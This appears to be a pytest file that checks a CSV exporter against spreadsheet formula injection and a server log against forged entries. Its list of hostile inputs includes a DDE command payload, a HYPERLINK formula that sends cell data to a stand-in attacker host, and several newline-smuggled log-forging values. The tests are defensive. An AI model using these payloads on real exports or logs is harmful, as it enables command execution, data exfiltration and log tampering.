"""T18: what people write of themselves is calculated by no spreadsheet, and forges no line of a log."""

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from memorata.adapters.csv_out import BOM, cell, table
from tests.live.client import Person, fetch
from tests.live.conftest import Server

pytestmark = pytest.mark.live


GOLDEN = Path(__file__).parent / "golden/table.csv"

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Vera")',
    "+7 812 000-00-00",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    'Vera "Verochka" Sokolova, 91; Ереван',
    "two\nlines",
    "'already quoted",
    "Анна-Мария",
    "千代",
    "",
]


def test_a_written_table_is_what_the_golden_file_holds() -> None:
    """Byte for byte: a change of it is a change of what a spreadsheet does with the words of strangers."""
    rows = [{"n": n, "name": text} for n, text in enumerate(HOSTILE, 1)]
    written = table(("n", "name", "=head"), rows)
    assert written.encode() == GOLDEN.read_bytes()


def test_no_cell_begins_a_formula() -> None:
    rows = [{"name": text} for text in HOSTILE]
    read = list(csv.reader(io.StringIO(BOM + table(("name",), rows), newline="")))[1:]
    for written, (shown,) in zip([text for text in HOSTILE if text], [row for row in read if row], strict=False):
        assert shown.lstrip(" \u00a0\ufeff")[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "\0"), written
    assert cell("Анна-Мария") == "Анна-Мария"


def test_a_name_forges_no_line_of_the_log(
    server: Server, people: Callable[..., Person], ceremony: dict[str, str]
) -> None:
    forged = 'Vera\n{"event": "forged", "level": "error"}'
    status, answer = fetch(f"{server.url}/api/enter", {"key": ceremony["participant"], "name": forged})
    assert (status, answer.get("participant", {}).get("name")) == (200, 'Vera {"event": "forged", "level": "error"}')
    fetch(f"{server.url}/e/%0a%7b%22event%22%3a%22forged%22%7d")
    fetch(f"{server.url}/api/me", {"name": "x"}, {"Authorization": "Bearer \x85forged"})
    guest = people(server, ceremony["participant"], name="Chiyo")
    guest.raw('42/live,["command",{"kind":"\\nforged\\u2028forged"}]')
    guest.raw('4forged\n{"event":"forged"}')
    assert guest.sync()["ok"]
    assert [line for line in server.lines if "forged" in line] == []
    assert all(json.loads(line) for line in server.lines)
